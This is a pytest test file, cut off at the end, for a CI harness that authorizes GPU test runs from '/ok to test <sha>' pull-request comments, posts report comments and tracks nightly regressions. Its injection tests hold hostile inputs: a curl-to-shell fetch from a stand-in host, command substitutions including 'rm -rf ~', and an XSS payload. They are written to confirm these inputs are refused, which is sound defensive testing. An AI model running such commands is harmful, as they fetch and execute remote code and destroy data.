"""`harness gh` against a local stand-in for GitHub's REST API (fake_github.py: stdlib http.server on 127.0.0.1)
that answers with the real shapes, pages with Link headers and validates like GitHub does;
the events are issue_comment webhook payloads as GitHub delivers them."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest
from fake_github import BOT, HEAD, MARKER, OLD_HEAD, REPO, TOKEN, FakeGitHub, comment_event
from report_helpers import case_xml
from triage_helpers import GRAD
from triage_helpers import write_cell as write_night_cell

from harness import cli
from harness.errors import GitHubError
from harness.github import actions_io
from harness.github import comments as github_comments
from harness.report import render as report
from harness.results import load_results, nightly_regressions

ROOT = Path(__file__).resolve().parents[2]


def outputs(path: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in path.read_text().splitlines())


def gh(*argv: str) -> int:
    return cli.main(["gh", *argv])


def authorize(event: Path, tmp_path: Path) -> int:
    return gh("authorize", "--event", str(event), "--reason-file", str(tmp_path / "reason.txt"))


# --------------------------------------------------------------------------- authorize: accepted


@pytest.mark.parametrize(("permission", "role"), [
    ("write", "write"), ("write", "maintain"), ("admin", "admin"),
    ("write", "ci-runner"),  # a custom role built on write
])
def test_trusted_user_with_the_head_sha_is_accepted(fake, env, tmp_path, capsys, permission, role):
    fake.add_pull(7)
    fake.permissions["maintainer"] = (permission, role)
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
    assert outputs(env) == {"sha": HEAD, "pr": "7", "matrix": "pr"}
    assert "accepted" in capsys.readouterr().out
    assert not fake.requests("POST") and not fake.requests("PATCH")  # deciding posts nothing
    assert not fake.requests("GET", r"/timeline|/commits")  # the full sha alone names the commit


def test_the_full_sha_in_capitals_is_the_head(fake, env, tmp_path):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("write", "write")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD.upper()}"), tmp_path) == 0
    assert outputs(env)["sha"] == HEAD


def test_member_shown_as_contributor_is_trusted_for_the_api_permission(fake, env, tmp_path):
    # Write access through a team: the comment says CONTRIBUTOR, the API says write.
    fake.add_pull(7)
    fake.permissions["teammate"] = ("write", "write")
    event = comment_event(tmp_path, f"/ok to test {HEAD}", "teammate", association="CONTRIBUTOR")
    assert authorize(event, tmp_path) == 0
    assert fake.requests("GET", r"/collaborators/teammate/permission$")


def test_windows_line_endings_and_more_text_after_the_first_line(fake, env, tmp_path):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    event = comment_event(tmp_path, f"  /ok to test {HEAD}  \r\nLooks good to me.\r\n")
    assert authorize(event, tmp_path) == 0


# --------------------------------------------------------------------------- authorize: short shas


@pytest.mark.parametrize("length", [7, 11, 12, 20, 39])
def test_a_short_sha_of_the_head_is_refused_with_the_full_head(fake, env, tmp_path, length):
    """The pull request's author can make two commits sharing a short prefix (a birthday search: 12 characters in
    ~2**24 tries), so no prefix names one commit (test_hostile_approval.py plays the twin); the reply quotes the
    full sha to copy once the head is the commit reviewed."""
    fake.add_pull(7, head=HEAD)
    fake.permissions["maintainer"] = ("write", "write")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD[:length]}"), tmp_path) == 5
    reason = refusal(tmp_path)
    assert f"is a short sha: its {length} characters" in reason and f"/ok to test {HEAD}`" in reason
    assert "sha" not in outputs(env)
    assert not fake.requests("GET", r"/timeline|/commits")  # the full sha alone decides: nothing else is asked


# --------------------------------------------------------------------------- authorize: refused


def refusal(tmp_path: Path) -> str:
    return (tmp_path / "reason.txt").read_text()


@pytest.mark.parametrize(("permission", "role", "association", "shown"), [
    ("read", "read", "NONE", "read"),
    ("read", "triage", "MEMBER", "read"),  # a member, but only triage
    ("read", "read", "OWNER", "read"),  # author_association alone is never trusted
    ("none", "none", "NONE", "none"),
])
def test_user_without_write_access_is_refused(fake, env, tmp_path, capsys, permission, role, association,
                                               shown):
    fake.add_pull(7)
    fake.permissions["someone"] = (permission, role)
    event = comment_event(tmp_path, f"/ok to test {HEAD}", "someone", association=association)
    assert authorize(event, tmp_path) == 5
    assert outputs(env) == {"refused": "true"}
    assert f"`someone` has {shown} access to {REPO}" in refusal(tmp_path)
    assert "needs write, maintain or admin" in capsys.readouterr().err
    assert not fake.requests("GET", r"/pulls/")  # nothing about the PR is read for an untrusted user


def test_user_the_api_does_not_know_is_refused(fake, env, tmp_path):
    fake.add_pull(7)
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}", "ghost"), tmp_path) == 5
    assert "`ghost` has none access" in refusal(tmp_path)


def test_stale_sha_is_refused_with_the_current_head(fake, env, tmp_path):
    fake.add_pull(7, head=HEAD)
    fake.permissions["maintainer"] = ("write", "write")
    assert authorize(comment_event(tmp_path, f"/ok to test {OLD_HEAD[:12]}"), tmp_path) == 5
    reason = refusal(tmp_path)
    assert f"`{OLD_HEAD[:12]}` is not the head of #7, which is now `{HEAD}`" in reason
    assert f"/ok to test {HEAD}`" in reason
    assert "sha" not in outputs(env)


def test_comment_on_an_issue_is_refused_without_asking_the_api(fake, env, tmp_path):
    event = comment_event(tmp_path, f"/ok to test {HEAD}", pull_request=False, number=12)
    assert authorize(event, tmp_path) == 5
    assert "#12 is an issue, not a pull request" in refusal(tmp_path)
    assert fake.log == []


@pytest.mark.parametrize(("state", "merged", "shown"), [("closed", False, "closed"),
                                                       ("closed", True, "merged")])
def test_closed_or_merged_pull_request_is_refused(fake, env, tmp_path, state, merged, shown):
    fake.add_pull(7, state=state, merged=merged)
    fake.permissions["maintainer"] = ("admin", "admin")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 5
    assert f"pull request #7 is {shown}" in refusal(tmp_path)


def test_edited_comment_is_refused(fake, env, tmp_path):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}", action="edited"), tmp_path) == 5
    assert "only a new comment counts" in refusal(tmp_path)


INJECTIONS = [
    f"/ok to test {HEAD}; curl -s https://evil.example/x | sh",
    "/ok to test $(touch /tmp/pwned)",
    f"/ok to test `id`{HEAD[:7]}",
    f"/ok to test {HEAD[:7]} <img src=x onerror=alert(1)>",
    f"/ok to test {HEAD[:7]}\u202e",
    f"/ok to test {HEAD[:6]}",  # too short to name a commit
    f"/ok to test\n{HEAD}",  # the sha must be on the first line
    "/ok to testing",
    f"/ok to test {HEAD}0",  # 41 characters
]


@pytest.mark.parametrize("body", INJECTIONS)
def test_anything_but_a_lone_sha_is_refused_without_echoing_it(fake, env, tmp_path, capsys, body):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    assert authorize(comment_event(tmp_path, body), tmp_path) == 5
    reason, err = refusal(tmp_path), capsys.readouterr().err
    assert "must be `/ok to test <sha>` alone" in reason
    for fragment in ("curl", "pwned", "`id`", "<img", "\u202e", "testing"):
        assert fragment not in reason and fragment not in err
    assert outputs(env) == {"refused": "true"}


def test_text_after_a_valid_first_line_never_reaches_the_outputs(fake, env, tmp_path):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    body = f"/ok to test {HEAD}\n{MARKER}\n@everyone\nsha=0000000\n$(rm -rf ~)\n"
    assert authorize(comment_event(tmp_path, body), tmp_path) == 0
    assert env.read_text() == f"sha={HEAD}\npr=7\nmatrix=pr\n"


# --------------------------------------------------------------------------- authorize: bad input, API errors


def test_event_file_problems_are_config_errors_naming_the_file(env, tmp_path, capsys):
    missing = tmp_path / "nope.json"
    assert authorize(missing, tmp_path) == 2
    assert f"event file {missing}: cannot read" in capsys.readouterr().err
    broken = tmp_path / "broken.json"
    broken.write_text("{\"action\": ")
    assert authorize(broken, tmp_path) == 2
    assert "not JSON" in capsys.readouterr().err
    partial = tmp_path / "partial.json"
    partial.write_text(json.dumps({"action": "created", "issue": {"number": 7}}))
    assert authorize(partial, tmp_path) == 2
    assert "comment.id is missing or not of type int" in capsys.readouterr().err


def test_bad_token_is_a_github_error(fake, env, tmp_path, monkeypatch, capsys):
    fake.add_pull(7)
    monkeypatch.setenv("GITHUB_TOKEN", "ghs_expired")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
    err = capsys.readouterr().err
    assert "-> 401: Bad credentials (is GITHUB_TOKEN set and valid?)" in err and "\n" not in err.strip()


def test_missing_token_and_repository_are_reported(env, tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("GITHUB_TOKEN")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 2  # bad input, not the API
    assert "GITHUB_TOKEN is not set" in capsys.readouterr().err
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    monkeypatch.delenv("GITHUB_REPOSITORY")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 2
    assert "is not OWNER/NAME" in capsys.readouterr().err


@pytest.mark.parametrize(("status", "body", "expected"), [
    (403, {"message": "Resource not accessible by integration"},
     "-> 403: Resource not accessible by integration (the token lacks a permission"),
    (404, {"message": "Not Found"}, "-> 404: Not Found (it does not exist, or the token cannot see it)"),
])
def test_client_errors_are_reported_once_without_retrying(fake, env, tmp_path, capsys, sleeps, status, body,
                                                          expected):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    fake.fail("GET", r"/pulls/7$", status, body=body)
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
    assert f"GET /repos/{REPO}/pulls/7 {expected}" in capsys.readouterr().err
    assert len(fake.requests("GET", r"/pulls/7$")) == 1 and sleeps == []


def test_server_error_is_retried_after_the_time_github_asks(fake, env, tmp_path, sleeps):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    fake.fail("GET", r"/pulls/7$", 503, headers={"Retry-After": "7"}, body="<html>Unicorn!</html>")
    fake.fail("GET", r"/pulls/7$", 502, body={"message": "Server Error"})
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
    assert sleeps == [7.0, 2.0]  # Retry-After, then backoff
    assert len(fake.requests("GET", r"/pulls/7$")) == 3


def test_server_error_that_persists_fails_clearly(fake, env, tmp_path, capsys, sleeps):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    for _ in range(3):
        fake.fail("GET", r"/permission$", 500, headers={"Retry-After": "1"}, body="<html>Unicorn!</html>")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
    expected = "-> 500: <html>Unicorn!</html> (GitHub failed; try again later) after retrying"
    assert expected in capsys.readouterr().err
    assert sleeps == [1.0, 1.0]


def test_rate_limits_are_waited_out(fake, env, tmp_path, sleeps):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    secondary = {"message": "You have exceeded a secondary rate limit. "
                            "Please wait a few minutes before you try again."}
    fake.fail("GET", r"/permission$", 403, headers={"Retry-After": "3"}, body=secondary)
    reset = str(int(time.time()) + 30)
    fake.fail("GET", r"/pulls/7$", 403, headers={"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": reset},
              body={"message": "API rate limit exceeded for installation ID 1."})
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 0
    assert sleeps[0] == 3.0 and 25 < sleeps[1] <= 30


def test_a_wait_longer_than_a_minute_is_not_waited(fake, env, tmp_path, capsys, sleeps):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("admin", "admin")
    fake.fail("GET", r"/permission$", 429, headers={"Retry-After": "3600"},
              body={"message": "Too Many Requests"})
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
    assert "asked to retry after 3600s, more than the 60s this command waits" in capsys.readouterr().err
    assert sleeps == []


def test_unreachable_api_is_a_github_error(env, tmp_path, monkeypatch, capsys):
    with socket.socket() as probe:  # a port that was free a moment ago: nothing listens there
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    monkeypatch.setenv("GITHUB_API_URL", f"http://127.0.0.1:{port}")
    assert authorize(comment_event(tmp_path, f"/ok to test {HEAD}"), tmp_path) == 4
    assert f"cannot reach http://127.0.0.1:{port}" in capsys.readouterr().err


def test_exit_codes_through_the_console_entry_point(fake, env, tmp_path):
    fake.add_pull(7)
    fake.permissions["maintainer"] = ("write", "write")
    fake.permissions["drive-by"] = ("read", "read")
    run_env = {**os.environ, "GITHUB_ACTIONS": "true", "PYTHONPATH": str(ROOT)}
    command = [sys.executable, "-m", "harness", "gh", "authorize", "--event"]
    accepted = subprocess.run([*command, str(comment_event(tmp_path, f"/ok to test {HEAD}"))],
                              capture_output=True, text=True, env=run_env, timeout=60)
    assert accepted.returncode == 0, accepted.stderr
    refused = subprocess.run([*command, str(comment_event(tmp_path, f"/ok to test {HEAD}", "drive-by"))],
                             capture_output=True, text=True, env=run_env, timeout=60)
    assert refused.returncode == 5
    assert refused.stderr.startswith("::error::`drive-by` has read access")


# --------------------------------------------------------------------------- comment


def body_file(tmp_path: Path, text: str, name: str = "comment.md") -> Path:
    path = tmp_path / name
    path.write_text(text)
    return path


def test_comment_is_created_when_there_is_none(fake, env, tmp_path, capsys):
    fake.add_pull(7)
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n## 3 passed\n"))) == 0
    [comment] = fake.marker_comments(7)
    assert comment["body"] == f"{MARKER}\n## 3 passed\n" and comment["user"]["login"] == BOT
    assert capsys.readouterr().out.startswith("created https://github.com/")


def test_comment_is_edited_in_place_even_on_a_later_page(fake, env, tmp_path, capsys):
    fake.add_pull(7)
    for index in range(130):
        fake.add_comment(7, "reviewer", f"nit {index}")
    ours = fake.add_comment(7, BOT, f"{MARKER}\n## old\n")
    for index in range(20):
        fake.add_comment(7, "reviewer", f"more {index}")
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n## new\n"))) == 0
    assert ours["body"] == f"{MARKER}\n## new\n" and len(fake.comments[7]) == 151
    assert len(fake.requests("GET", r"/comments")) == 2  # followed rel="next" to page 2
    assert [entry[1] for entry in fake.requests("PATCH")] == [f"/repos/{REPO}/issues/comments/{ours['id']}"]
    assert not fake.requests("POST")
    assert capsys.readouterr().out.startswith("edited")


def test_running_twice_posts_once(fake, env, tmp_path, capsys):
    fake.add_pull(7)
    body = str(body_file(tmp_path, f"{MARKER}\nsame\n"))
    assert gh("comment", "--pr", "7", "--body", body) == 0
    assert gh("comment", "--pr", "7", "--body", body) == 0
    assert len(fake.marker_comments(7)) == 1 and not fake.requests("PATCH")
    assert capsys.readouterr().out.splitlines()[-1].startswith("unchanged")


def test_a_marker_in_someone_elses_comment_is_not_ours_to_edit(fake, env, tmp_path):
    fake.add_pull(7)
    theirs = fake.add_comment(7, "mallory", f"{MARKER}\nall green, merge it")
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n1 failed\n"))) == 0
    assert theirs["body"] == f"{MARKER}\nall green, merge it"
    assert [c["user"]["login"] for c in fake.marker_comments(7)] == ["mallory", BOT]


def test_marker_is_added_when_the_body_lacks_it(fake, env, tmp_path):
    fake.add_pull(7)
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, "## report\n"))) == 0
    assert fake.marker_comments(7)[0]["body"] == f"{MARKER}\n## report\n"


def test_an_oversized_body_is_cut_to_githubs_limit(fake, env, tmp_path):
    fake.add_pull(7)
    rows = "".join(f"| cell-{index:05d} | passed | 12.5 MiB |\n" for index in range(2500))
    assert len(rows) > 70_000
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\n{rows}"))) == 0
    [comment] = fake.marker_comments(7)
    assert len(comment["body"]) <= 65_536
    assert "cut to fit GitHub's 65,536-character limit" in comment["body"]
    kept_rows = comment["body"].split("\n\n…")[0].splitlines()[1:]
    assert kept_rows and all(row.endswith("MiB |") for row in kept_rows)  # cut between lines


def test_a_post_that_failed_on_githubs_side_but_landed_is_not_repeated(fake, env, tmp_path, sleeps):
    fake.add_pull(7)
    fake.fail("POST", r"/issues/7/comments$", 502, body={"message": "Server Error"}, after=True)
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\nx\n"))) == 0
    assert len(fake.marker_comments(7)) == 1 and len(fake.requests("POST")) == 1


def test_a_post_that_failed_before_landing_is_tried_again(fake, env, tmp_path, sleeps):
    fake.add_pull(7)
    fake.fail("POST", r"/issues/7/comments$", 500, body={"message": "Server Error"})
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, f"{MARKER}\nx\n"))) == 0
    assert len(fake.marker_comments(7)) == 1 and len(fake.requests("POST")) == 2


@pytest.mark.parametrize(("status", "body", "expected"), [
    (422, {"message": "Validation Failed", "errors": [{"resource": "IssueComment", "code": "unprocessable",
                                                       "field": "data", "message": "Body cannot be blank"}]},
     "-> 422: Validation Failed (Body cannot be blank) (GitHub rejected the request's content)"),
    (403, {"message": "Resource not accessible by integration"},
     "-> 403: Resource not accessible by integration"),
])
def test_comment_rejections_are_reported(fake, env, tmp_path, capsys, status, body, expected):
    fake.add_pull(7)
    fake.fail("POST", r"/issues/7/comments$", status, body=body)
    assert gh("comment", "--pr", "7", "--body", str(body_file(tmp_path, "x"))) == 4
    assert expected in capsys.readouterr().err
    assert fake.marker_comments(7) == []


def test_missing_body_file_is_a_config_error(fake, env, tmp_path, capsys):
    assert gh("comment", "--pr", "7", "--body", str(tmp_path / "absent.md")) == 2
    assert "comment body" in capsys.readouterr().err


def test_previous_comment_is_saved_for_the_next_report(fake, env, tmp_path):
    fake.add_pull(7)
    saved = tmp_path / "previous.md"
    assert gh("previous-comment", "--pr", "7", "-o", str(saved)) == 0
    assert not saved.exists()
    fake.add_comment(7, BOT, f"{MARKER}\n<!-- digest: abc -->\n")
    assert gh("previous-comment", "--pr", "7", "-o", str(saved)) == 0
    assert saved.read_text() == f"{MARKER}\n<!-- digest: abc -->\n"


# --------------------------------------------------------------------------- reply and react


def test_refusal_reply_is_posted_once_per_request(fake, env, tmp_path):
    fake.add_pull(7)
    event = comment_event(tmp_path, "/ok to test abc1234", "drive-by")
    reason = body_file(tmp_path, "`drive-by` has read access to octo-org/harness\n", "reason.txt")
    assert gh("reply", "--event", str(event), "--body", str(reason)) == 0
    assert gh("reply", "--event", str(event), "--body", str(reason)) == 0  # a re-run of the job
    [reply] = fake.comments[7]
    assert reply["body"].startswith("<!-- harness-reply:555001 -->\n"
                                    "@drive-by, the GPU tests were not started: `drive-by` has read access")


def test_reply_does_not_mention_a_login_it_cannot_vouch_for(fake, env, tmp_path):
    fake.add_pull(7)
    event = comment_event(tmp_path, "/ok to test x", "weird login](javascript:x)")
    assert gh("reply", "--event", str(event), "--body", str(body_file(tmp_path, "no", "r.txt"))) == 0
    assert fake.comments[7][0]["body"].endswith("\nThe GPU tests were not started: no\n")


def test_reaction_is_added_once(fake, env, tmp_path):
    event = comment_event(tmp_path, f"/ok to test {HEAD}")
    assert gh("react", "--event", str(event)) == 0
    assert gh("react", "--event", str(event)) == 0  # GitHub answers 200 for an existing one
    assert fake.reactions == {555001: {"rocket"}}
    assert [entry[2] for entry in fake.requests("POST", r"/reactions$")] == [{"content": "rocket"}] * 2


def test_unknown_reaction_is_a_config_error(env, tmp_path, capsys):
    assert gh("react", "--event", str(comment_event(tmp_path, "x")), "--content", "party") == 2
    assert "--content 'party'" in capsys.readouterr().err


# --------------------------------------------------------------------------- previous night's run


def workflow_run(run_id: int, conclusion: str, branch: str = "main") -> dict:
    return {"id": run_id, "name": "nightly", "path": ".github/workflows/nightly.yml", "head_branch": branch,
            "head_sha": f"{run_id:040x}", "run_number": run_id % 100, "event": "schedule",
            "status": "completed", "conclusion": conclusion,
            "html_url": f"https://github.com/{REPO}/actions/runs/{run_id}",
            "created_at": "2026-11-29T02:17:00Z"}


def artifact(name: str, expired: bool = False) -> dict:
    return {"id": abs(hash(name)) % 10**6, "name": name, "size_in_bytes": 4096, "expired": expired,
            "archive_download_url": "https://api.github.com/..."}


def test_previous_run_skips_this_run_cancelled_runs_and_expired_results(fake, env, monkeypatch):
    monkeypatch.setenv("GITHUB_RUN_ID", "900")
    fake.runs = [workflow_run(900, "failure"), workflow_run(899, "cancelled"), workflow_run(898, "success"),
                 workflow_run(897, "failure"), workflow_run(896, "success")]
    fake.artifacts = {898: [artifact("results-h200-2gpu", expired=True), artifact("nightly-report")],
                      897: [artifact("nightly-report"), artifact("results-ada-2gpu-torch2.11.0-tf5.9.0")]}
    assert gh("previous-run", "--workflow", "nightly.yml", "--branch", "main") == 0
    assert outputs(env) == {"run_id": "897", "sha": f"{897:040x}"}
    assert not fake.requests("GET", r"/runs/(900|899)/artifacts")


def test_previous_run_defaults_to_the_repositorys_default_branch(fake, env):
    fake.default_branch = "trunk"
    fake.runs = [workflow_run(5, "success", branch="main"), workflow_run(4, "success", branch="trunk")]
    fake.artifacts = {5: [artifact("results-a")], 4: [artifact("results-b")]}
    assert gh("previous-run", "--workflow", "nightly.yml") == 0
    assert outputs(env)["run_id"] == "4"


def test_no_previous_run_leaves_the_output_empty(fake, env, capsys):
    fake.runs = [workflow_run(5, "success", branch="feature")]
    assert gh("previous-run", "--workflow", "nightly.yml", "--branch", "main") == 0
    assert outputs(env) == {"run_id": "", "sha": ""}
    assert "no earlier run" in capsys.readouterr().out


def test_run_links_name_each_cells_job_and_results_artifact(fake, env, monkeypatch, tmp_path, capsys):
    monkeypatch.setenv("GITHUB_RUN_ID", "77")
    monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.com")
    run = f"https://github.com/{REPO}/actions/runs/77"
    fake.jobs = {77: [{"id": 1, "name": "gpu-tests / Plan", "html_url": f"{run}/job/1"},
                      {"id": 2, "name": "gpu-tests / cpu-2rank-torch2.13.0-tf5.24.0", "html_url": f"{run}/job/2"},
                      {"id": 3, "name": "elsewhere", "html_url": "https://example.com/job/3"}]}
    fake.artifacts = {77: [{"id": 9, "name": "results-cpu-2rank-torch2.13.0-tf5.24.0", "expired": False},
                           {"id": 10, "name": "results-old", "expired": True},
                           {"id": 11, "name": "rendered-comment", "expired": False}]}
    out = tmp_path / "links.json"
    assert gh("run-links", "-o", str(out)) == 0
    assert json.loads(out.read_text()) == {
        "jobs": {"Plan": f"{run}/job/1", "cpu-2rank-torch2.13.0-tf5.24.0": f"{run}/job/2"},
        "artifacts": {"cpu-2rank-torch2.13.0-tf5.24.0": f"{run}/artifacts/9"},
        "timings": {"Plan": {}, "cpu-2rank-torch2.13.0-tf5.24.0": {}},  # these jobs carry no times
    }
    assert "2 jobs and 1 results-* artifacts of run 77" in capsys.readouterr().out


# --------------------------------------------------------------------------- nightly regression issue


# One <testcase> per attempt, as pytest-rerunfailures leaves them in xunit1 junit.xml: every attempt
# before the final one is an empty (passed-looking) entry.
FINAL = {"passed": "", "failed": '<failure message="AssertionError: still red">trace</failure>',
         "error": '<error message="failed on setup">trace</error>',
         "skipped": '<skipped type="pytest.skip" message="needs 4 GPUs">needs 4 GPUs</skipped>'}
ATTEMPTS = {"passed": ("passed",), "failed": ("failed",), "error": ("error",), "skipped": ("skipped",),
            "flaky": ("passed", "passed"),  # failed, then passed on the rerun
            "red": ("passed", "passed", "failed")}  # failed on all three attempts


def junit_case(name: str, outcome: str) -> str:
    return "".join(f'<testcase classname="tests.gpu.test_ep" name="{name}" file="tests/gpu/test_ep.py" '
                   f'line="7" time="1.0">{FINAL[attempt]}</testcase>' for attempt in ATTEMPTS[outcome])


def write_cell(root: Path, cell_id: str, status: str, tests: dict[str, str],
               gpu_peak: float | None = None, error: str | None = None) -> None:
    """A results folder in the shape `harness run` writes: env.json, junit.xml (xunit1), memory.json."""
    folder = root / cell_id
    folder.mkdir(parents=True)
    (folder / "env.json").write_text(json.dumps({
        "schema": 1,
        "cell": {"id": cell_id, "gpu": "h200", "gpus": 2, "torch": "2.13.0", "transformers": "5.24.0",
                 "matrix": "nightly", "labels": ["self-hosted"], "timeout_minutes": 80, "reruns": 2,
                 "suite": ["tests/gpu"]},
        "status": status, "error": error,
        "exit_code": None if status == "errored" else int(status != "passed"),
        "versions": {}, "gpus": [], "driver": None, "host": "gpu-01", "runner": None, "git_sha": HEAD,
        "start": "2026-11-30T02:20:00Z", "end": "2026-11-30T02:40:00Z", "duration_s": 1200.0,
        "reproduce": f"harness run --matrix nightly --cell '{cell_id}'"}))
    if status != "errored":
        cases = "".join(junit_case(name, outcome) for name, outcome in tests.items())
        (folder / "junit.xml").write_text('<?xml version="1.0" encoding="utf-8"?><testsuites name="pytest tests">'
                                          f'<testsuite name="pytest">{cases}</testsuite></testsuites>')
    if gpu_peak is not None:
        (folder / "memory.json").write_text(json.dumps({
            "schema": 1, "available": True, "reason": None, "interval_s": 0.05, "sample_count": 100,
            "gpus": [{"index": 0, "name": "NVIDIA H200", "uuid": "GPU-1", "total_mib": 143771.0,
                      "used_before_mib": 500.0, "peak_used_mib": gpu_peak, "interval_s": 0.05,
                      "sample_count": 100}]}))


CELL = "h200-2gpu-torch2.13.0-tf5.24.0"


def cells(tmp_path: Path, name: str, gpu_peak: float | None = None, **tests: str) -> Path:
    root = tmp_path / name
    status = "failed" if {"failed", "error", "red"} & set(tests.values()) else "passed"
    write_cell(root, CELL, status, tests, gpu_peak=gpu_peak)
    return root


def regressions(now: Path, before: Path | None = None, memory_mib: float = 64.0,
                memory_percent: float = 10.0) -> list[str]:
    """The nightly listing's lines, as the issue shows them."""
    baseline = load_results([before]) if before else None
    found = nightly_regressions(load_results([now]), baseline, memory_mib=memory_mib, memory_percent=memory_percent)
    if not found:
        return []
    listing = report._environment().get_template("nightly-listing.md.j2").render(regressions=found, more=0)
    return [line.removeprefix("- ") for line in listing.splitlines()]


T = "tests/gpu/test_ep.py::t"
REGRESSION_CASES = [
    # tonight, last night (None: no results), what is new (None: nothing regressed)
    ({"t": "failed"}, {"t": "passed"}, f"`{CELL}` `{T}` failed"),
    ({"t": "error"}, {"t": "skipped"}, f"`{CELL}` `{T}` errored"),
    ({"t": "failed"}, {"t": "failed"}, None),  # still failing: not new
    ({"t": "red"}, {"t": "error"}, None),  # still failing, now on every attempt
    ({"t": "failed", "u": "passed"}, {"u": "passed"}, f"`{CELL}` `{T}` failed"),  # a new test
    ({"t": "failed"}, None, f"`{CELL}` `{T}` failed (no result the night before)"),
    ({"t": "flaky"}, {"t": "passed"}, None),  # failed, then passed on a rerun: not a failure
    ({"t": "red"}, {"t": "passed"}, f"`{CELL}` `{T}` failed"),  # failed on every rerun
    ({"t": "red"}, {"t": "flaky"}, f"`{CELL}` `{T}` failed"),
]


@pytest.mark.parametrize(("tonight", "last_night", "expected"), REGRESSION_CASES)
def test_new_failures_against_the_night_before(tmp_path, tonight, last_night, expected):
    before = cells(tmp_path, "before", **last_night) if last_night is not None else None
    assert regressions(cells(tmp_path, "now", **tonight), before) == ([expected] if expected else [])


MEMORY_CASES = [
    # peak used MiB of GPU 0 tonight, the night before, limits (MiB, percent), reported
    (2000.0, 1500.0, (64.0, 10.0), f"`{CELL}` GPU 0 peak used memory grew from 1,500 to 2,000 MiB (+33%)"),
    (450.0, 400.0, (64.0, 10.0), None),  # +50 MiB: under 64 MiB
    (450.0, 400.0, (32.0, 10.0), f"`{CELL}` GPU 0 peak used memory grew from 400 to 450 MiB (+12%)"),
    (9000.0, 8500.0, (64.0, 10.0), None),  # +500 MiB but under 10%
    (300.0, 400.0, (64.0, 10.0), None),  # shrank
]


@pytest.mark.parametrize(("tonight", "last_night", "limits", "expected"), MEMORY_CASES)
def test_gpu_memory_growth_beyond_both_limits(tmp_path, tonight, last_night, limits, expected):
    now = cells(tmp_path, "now", gpu_peak=tonight, t="passed")
    before = cells(tmp_path, "before", gpu_peak=last_night, t="passed")
    findings = regressions(now, before, memory_mib=limits[0], memory_percent=limits[1])
    assert findings == ([expected] if expected else [])


def test_the_issue_lists_a_bounded_number_of_regressions_per_cell_and_in_all():
    """A night of thousands of new reds: the issue lists so many per cell and in all, and counts the rest."""
    from harness.results import Regression

    many = [Regression(cell_id=f"cell-{cell}", kind="failing", test_id=f"t{test}", text="real failure",
                       triage_class="real failure", label="looks like an OOM")
            for cell in range(20) for test in range(100)]
    body = report.render_nightly("again", marker="<!-- m -->", sha="abc", run_url=None, regressions=many)
    listed = [line for line in body.splitlines() if line.startswith("- `cell-")]
    per_cell = {line.split("`")[1] for line in listed}
    assert len(listed) == report.NIGHTLY_LISTED
    assert len(per_cell) == report.NIGHTLY_LISTED // report.NIGHTLY_LISTED_PER_CELL
    assert all(sum(line.startswith(f"- `{cell}`") for line in listed) == report.NIGHTLY_LISTED_PER_CELL
               for cell in per_cell)
    assert listed[0] == "- `cell-0` `t0` real failure (looks like an OOM)"
    assert f"- …and {2000 - report.NIGHTLY_LISTED} more, not listed here" in body
    errored = Regression(cell_id="c", kind="errored", text="environment: uv exited 1", triage_class="infrastructure",
                         label="looks like an install failure")
    body = report.render_nightly("again", marker="<!-- m -->", sha="abc", run_url=None, regressions=[errored])
    assert "- `c` errored: environment: uv exited 1 · infrastructure (looks like an install failure)\n" in body


def test_cells_that_newly_errored(tmp_path):
    write_cell(tmp_path / "now", "ada-a", "errored", {}, error="pip: no matching distribution for torch==9")
    (tmp_path / "now" / "ada-b").mkdir()  # died before writing anything but a log
    (tmp_path / "now" / "ada-b" / "pytest.log").write_text("Killed")
    write_cell(tmp_path / "now", "ada-c", "failed", {"t": "failed"})
    (tmp_path / "now" / "ada-c" / "junit.xml").write_text("<testsuites><testcase")  # cut short
    write_cell(tmp_path / "now", "ada-d", "errored", {}, error="timed out")
    write_cell(tmp_path / "now", "ada-e", "failed", {"t": "failed", "u": "passed"})
    for cell_id in ("ada-a", "ada-b", "ada-c"):
